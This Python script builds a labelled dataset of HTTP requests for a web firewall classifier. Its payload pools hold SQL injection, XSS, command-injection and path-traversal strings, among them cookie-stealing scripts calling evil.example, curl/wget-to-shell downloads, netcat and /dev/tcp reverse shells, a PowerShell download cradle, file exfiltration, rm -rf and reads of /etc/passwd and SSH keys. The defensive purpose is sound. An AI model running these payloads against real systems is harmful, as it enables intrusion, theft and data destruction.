"""Build the labelled HTTP-payload dataset for the request classifier.

Every row is one request as a web application firewall would see it: a request line with its
query string, or a request line followed by a form or JSON body. Labels are ``benign`` or the
attack family: ``sqli``, ``xss``, ``cmdi`` and ``path_traversal``. Benign values and attacks
share the same endpoints and parameters, so a model has to learn the payload, not the URL.
Attacks appear raw and in the encodings and obfuscations attackers use (URL and double URL
encoding, case mixing, comment and whitespace tricks, HTML entities, ``${IFS}``).

The generator is seeded and uses only the standard library: the same seed always writes the
same files. The held-out set comes from a separate random stream, shares no payload with the
training set, and also draws on attack templates the training set never uses::

    python build_dataset.py                 # data/requests.csv (4000) + data/holdout.csv (1000)
    python build_dataset.py --rows 8000 --seed 7
"""

from __future__ import annotations

import argparse
import csv
import json
import random
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote, quote_plus

LABELS = ("benign", "sqli", "xss", "cmdi", "path_traversal")
# Share of each label in the output; benign traffic dominates as it does in real logs.
MIX = {"benign": 0.5, "sqli": 0.125, "xss": 0.125, "cmdi": 0.125, "path_traversal": 0.125}

Rng = random.Random
Render = Callable[[Rng, str], str]

# ---------------------------------------------------------------- benign values per slot

WORDS = (
    "red running shoes", "wireless headphones", "coffee grinder", "standing desk", "usb c cable",
    "winter jacket", "how to select a laptop", "union square hotels", "drop shipping suppliers",
    "script writing course", "cat food", "table lamp", "order status", "return policy",
    "gift card balance", "delete my account", "update shipping address", "sql tutorial",
    "alert settings", "echo dot", "path of exile", "trail running", "la casa de papel",
    "café au lait", "naïve bayes", "50% off", "kids & toys", "size 10.5", "C++ primer",
    "what's new", "where is my order?", "1/2 inch drill bit", "rock & roll t-shirt",
    "O'Reilly books",
    "ping pong table", "shell jacket", "etc", "windows 11 laptop", "sleep mask", "id card holder",
)
NAMES = ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
         "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter",
         "José", "Zoë", "Siobhán", "Łukasz", "Ngozi", "Mei", "Anne-Marie", "D'Angelo", "O'Neil")
CITIES = ("Berlin", "Lisbon", "Austin", "Nairobi", "Osaka", "São Paulo", "Toronto", "Kraków")
COMMENTS = (
    "Great product, arrived on time.", "Would buy again!", "The size runs small; order one up.",
    "Does this work with a 220V outlet?", "Packaging was damaged but item is fine.",
    "5 stars <3", "Can I pick it up in store?", "Not as described - colour is darker.",
    "Select the blue one, it's nicer.", "My kid loves it :)", "Is the price including tax?",
    "Use the command line tool to export it.", "Works fine on Linux & macOS.",
    "2 > 1, so I bought two.", "Cheaper than the union store downtown.", "Drop-in replacement.",
)
RICH_TEXT = ("<p>{c}</p>", "<p><b>{c}</b></p>", "<ul><li>{c}</li></ul>", "{c} <br>",
             "<p>{c} <a href=\"https://example.com/faq\">FAQ</a></p>", "<em>{c}</em>")
FILES = ("report.pdf", "invoice-2024-03.pdf", "avatar.png", "notes.txt", "data.csv",
         "summary.docx", "photo_001.jpg", "backup.zip", "logo.svg", "q3 results.xlsx")
HOSTS = ("example.com", "api.example.org", "8.8.8.8", "10.0.0.12", "status.example.net",
         "mail.example.com", "192.168.1.20")
FACETS = ("brand:acme|globex", "price:10-50;rating:4+", "size:m,l;colour:red", "sort:-date")


def _pick(rng: Rng, items: tuple[str, ...]) -> str:
    return items[rng.randrange(len(items))]


def _benign_value(rng: Rng, slot: str) -> str:
    n = rng.randint(1, 99999)
    values: dict[str, Callable[[], str]] = {
        "text": lambda: _pick(rng, WORDS),
        "id": lambda: str(n),
        "ref": lambda: _pick(rng, ("home", "email", "ad_spring", "related", "cart")),
        "name": lambda: _pick(rng, NAMES),
        "comment": lambda: _pick(rng, COMMENTS),
        "html": lambda: _pick(rng, RICH_TEXT).format(c=_pick(rng, COMMENTS).rstrip(".!")),
        "file": lambda: _pick(rng, FILES),
        "path": lambda: f"{_pick(rng, ('reports', 'exports', 'shared'))}/{2020 + n % 5}/"
        + _pick(rng, FILES),
        "asset": lambda: f"{_pick(rng, ('js/app', 'js/vendor', 'css/main'))}.{n:05x}.min."
        + rng.choice(("js", "css")),
        "tpl": lambda: _pick(rng, ("round", "square", "thumb_64", "retina@2x")),
        "host": lambda: _pick(rng, HOSTS),
        "dir": lambda: f"/srv/data/{_pick(rng, ('exports', 'daily', str(2020 + n % 5)))}",
        "facet": lambda: _pick(rng, FACETS),
        "date": lambda: f"2024-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
    }
    return values[slot]()


def _qs(rng: Rng, value: str) -> str:
    """Encode a benign query value the way browsers and clients vary in doing it."""
    style = rng.random()
    if style < 0.5:
        return quote_plus(value)
    if style < 0.8:
        return quote(value, safe="")
    return value.replace(" ", "+")


def _json(rng: Rng, fields: dict[str, object]) -> str:
    return json.dumps(fields, ensure_ascii=rng.random() < 0.5)


# ---------------------------------------------------------------- request contexts
# (slot, style, render): style "qs" values are URL-encoded when benign, "json" values are
# JSON-escaped by the renderer, "path" values go into the path as they are.

CONTEXTS: tuple[tuple[str, str, Render], ...] = (
    ("text", "qs", lambda r, v: f"GET /search?q={v}&page={r.randint(1, 20)}"),
    ("text", "qs", lambda r, v: f"GET /help/articles?topic={v}"),
    ("id", "qs", lambda r, v: f"GET /products?id={v}"),
    ("id", "path", lambda r, v: f"GET /api/v{r.randint(1, 3)}/users/{v}/orders?limit=20"),
    ("ref", "qs", lambda r, v: f"GET /products/{r.randint(1, 9999)}?ref={v}"),
    ("name", "qs", lambda r, v: f"POST /account/profile name={v}&city={_qs(r, _pick(r, CITIES))}"
     "&newsletter=on"),
    ("comment", "json", lambda r, v: "POST /api/reviews "
     + _json(r, {"product_id": r.randint(1, 9999), "qty": r.randint(1, 5), "comment": v})),
    ("html", "json", lambda r, v: "POST /api/reviews "
     + _json(r, {"product_id": r.randint(1, 9999), "comment_html": v})),
    ("file", "qs", lambda r, v: f"GET /download?file={v}&v={r.randint(1, 9)}"),
    ("file", "qs", lambda r, v: f"POST /convert filename={v}&format=pdf"),
    ("path", "json", lambda r, v: "POST /api/files/read " + _json(r, {"path": v})),
    ("asset", "path", lambda r, v: f"GET /static/{v}"),
    ("tpl", "qs", lambda r, v: f"GET /api/v1/avatars/{r.randint(1, 9999)}?template={v}"),
    ("host", "json", lambda r, v: "POST /api/diagnostics/ping "
     + _json(r, {"host": v, "count": r.randint(1, 4)})),
    ("host", "qs", lambda r, v: f"GET /tools/lookup?domain={v}"),
    ("dir", "qs", lambda r, v: f"GET /api/v2/backup?dir={v}"),
    ("facet", "qs", lambda r, v: f"GET /catalog?filter={v}&view={r.choice(('grid', 'list'))}"),
    ("date", "qs", lambda r, v: f"GET /reports/sales?from={v}&to=2024-12-31&format=csv"),
)

# Slots each family is usually aimed at; attackers also spray every parameter now and then.
TARGETS = {
    "sqli": ("text", "id", "ref", "name", "comment", "facet", "date"),
    "xss": ("text", "ref", "name", "comment", "html", "tpl"),
    "cmdi": ("host", "file", "dir"),
    "path_traversal": ("file", "path", "asset", "tpl", "dir"),
}

# ---------------------------------------------------------------- attack templates

SQLI = (
    "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "admin'--", "1 OR 1=1", "1' OR '1'='1' /*",
    "1 UNION SELECT username, passwd FROM users--", "' UNION ALL SELECT NULL,NULL,version()--",
    "1; DROP TABLE orders--", "1' AND SLEEP(5)-- -", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "'; WAITFOR DELAY '0:0:5'--", "' || (SELECT pg_sleep(5))--", "1' ORDER BY 3--+",
    "' AND extractvalue(1,concat(0x7e,(SELECT database())))--", "1 AND 1=CONVERT(int,@@version)",
    "' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64--",
    "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#", "') OR ('a'='a",
    "1;SELECT LOAD_FILE('/etc/hosts')", "' OR 'x' LIKE 'x",
    "-1 UNION SELECT 1,table_name,3 FROM information_schema.tables",
    "' AND 1=(SELECT COUNT(*) FROM tabname); --", "1' AND '1'='2", "' OR ''='",
    "1) OR (1=1", "'; EXEC xp_cmdshell('dir')--", "' OR EXISTS(SELECT * FROM users)--",
)
XSS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert(1)>", "\"><script>fetch('//evil.example/?c='+document.cookie)</script>",
    "javascript:alert(document.domain)", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert('xss')>", "<details open ontoggle=alert(1)>", "'-alert(1)-'",
    "<a href=\"jav&#x09;ascript:alert(1)\">click</a>", "<img src=1 onerror=&#97;lert(1)>",
    "{{constructor.constructor('alert(1)')()}}", "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>", "<video><source onerror=\"alert(1)\">",
    "\"onmouseover=\"alert(1)", "<marquee onstart=alert(1)>", "<object data=\"data:text/html;"
    "base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<script src=//evil.example/x.js></script>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "';document.location='//evil.example/'+"
    "document.cookie;//",
)
CMDI = (
    "; cat /etc/passwd", "| whoami", "&& id", "`id`", "$(id)", "; uname -a",
    "|| ping -c 10 127.0.0.1", "; curl http://evil.example/x.sh | sh",
    "$(wget -qO- http://203.0.113.9/p|bash)", "; nc -e /bin/sh 203.0.113.9 4444",
    "; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", ";cat${IFS}/etc/passwd", "%0Aid",
    "& type C:\\Windows\\win.ini", "| dir c:\\", "; sleep 10", "| ls -la /", "; rm -rf /tmp/*",
    "; powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://evil.example')\"",
    "&& echo pwned > /var/www/html/p.txt", "; python -c 'import os;os.system(\"id\")'",
    "`curl -d @/etc/passwd evil.example`", ";id", "|id", "; ls", "%0awhoami", "|cat /etc/hosts",
    "; ifconfig", "& net user", "$(sleep 5)",
)
TRAVERSAL = (
    "../../../../etc/passwd", "../../../etc/shadow", "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd",
    "/var/www/images/../../../etc/passwd", "../../../../proc/self/environ",
    "..%5c..%5c..%5cboot.ini", "../../../etc/passwd%00.png", "..;/..;/WEB-INF/web.xml",
    "/..%252f..%252f..%252fetc/hosts", "....\\\\....\\\\windows\\system32\\drivers\\etc\\hosts",
    "../../../home/app/.ssh/id_rsa", "file:///etc/passwd", "../../../../var/log/auth.log",
    "../../../../../../../../etc/group", "..%2F..%2F..%2F..%2Fapp%2Fconfig.py",
    "%2e%2e/%2e%2e/%2e%2e/etc/issue", "../../.env",
)
POOLS = {"sqli": SQLI, "xss": XSS, "cmdi": CMDI, "path_traversal": TRAVERSAL}


def _mix_case(rng: Rng, s: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def _obfuscate(rng: Rng, s: str, label: str) -> str:
    """Apply zero or more evasions suited to the attack family."""
    roll = rng.random()
    if label == "sqli":
        if roll < 0.15:
            s = s.replace(" ", "/**/")
        elif roll < 0.3:
            s = _mix_case(rng, s)
        elif roll < 0.4:
            s = s.replace(" ", "%09")
    elif label == "xss":
        if roll < 0.2:
            s = s.replace("script", _mix_case(rng, "script")).replace("alert", "prompt")
        elif roll < 0.3:
            s = s.replace("<", "&lt;").replace(">", "&gt;")
        elif roll < 0.4:
            s = s.replace("alert(1)", "eval(atob('YWxlcnQoMSk='))")
    elif label == "cmdi" and roll < 0.2:
        s = s.replace(" ", "${IFS}")
    enc = rng.random()
    if enc < 0.25:
        return quote(s, safe="")
    if enc < 0.3 and label != "path_traversal":
        return quote(quote(s, safe=""), safe="")
    if enc < 0.45:
        return s.replace(" ", "+")
    return s


def benign(rng: Rng) -> str:
    """One benign request in a random context."""
    slot, style, render = CONTEXTS[rng.randrange(len(CONTEXTS))]
    value = _benign_value(rng, slot)
    if style == "qs":
        value = _qs(rng, value)
    elif style == "path":
        value = quote(value, safe="/@")
    return render(rng, value)


def attack(rng: Rng, label: str, novel: bool = False) -> str:
    """One attack of family ``label``; templates with index % 4 == 3 only when ``novel``."""
    pool = POOLS[label]
    if not novel:
        pool = tuple(a for i, a in enumerate(pool) if i % 4 != 3)
    payload = _obfuscate(rng, _pick(rng, pool), label)
    if rng.random() < 0.85:
        wanted = TARGETS[label]
        options = [c for c in CONTEXTS if c[0] in wanted]
    else:
        options = list(CONTEXTS)
    slot, _style, render = options[rng.randrange(len(options))]
    if label == "cmdi" or (label in ("sqli", "xss") and rng.random() < 0.4):
        payload = _benign_value(rng, slot) + payload
    elif label == "path_traversal" and rng.random() < 0.3:
        payload = _pick(rng, ("images/", "uploads/", "/static/", "./")) + payload
    return render(rng, payload)


def generate(
    rows: int, seed: int, exclude: frozenset[str] = frozenset(), novel: bool = False
) -> list[tuple[str, str]]:
    """Return ``rows`` unique (payload, label) pairs in a seeded shuffled order."""
    rng = random.Random(seed)
    quotas = {label: round(rows * share) for label, share in MIX.items()}
    quotas["benign"] += rows - sum(quotas.values())
    seen = set(exclude)
    out: list[tuple[str, str]] = []
    for label, quota in quotas.items():
        made, attempts = 0, 0
        while made < quota:
            attempts += 1
            if attempts > quota * 50:
                raise RuntimeError(f"cannot make {quota} unique {label} rows; lower --rows")
            payload = benign(rng) if label == "benign" else attack(rng, label, novel)
            if payload not in seen:
                seen.add(payload)
                out.append((payload, label))
                made += 1
    rng.shuffle(out)
    return out


def write_csv(path: Path, rows: list[tuple[str, str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(("payload", "label"))
        writer.writerows(rows)


def build(out_dir: Path, rows: int = 4000, holdout: int = 1000, seed: int = 1337) -> None:
    """Write ``requests.csv`` and a disjoint ``holdout.csv`` into ``out_dir``."""
    train = generate(rows, seed)
    held = generate(holdout, seed + 1, exclude=frozenset(p for p, _ in train), novel=True)
    write_csv(out_dir / "requests.csv", train)
    write_csv(out_dir / "holdout.csv", held)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=Path(__file__).parent / "data")
    parser.add_argument("--rows", type=int, default=4000)
    parser.add_argument("--holdout", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=1337)
    args = parser.parse_args(argv)
    build(args.out, args.rows, args.holdout, args.seed)
    print(f"wrote {args.rows} rows to {args.out / 'requests.csv'} "
          f"and {args.holdout} to {args.out / 'holdout.csv'}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
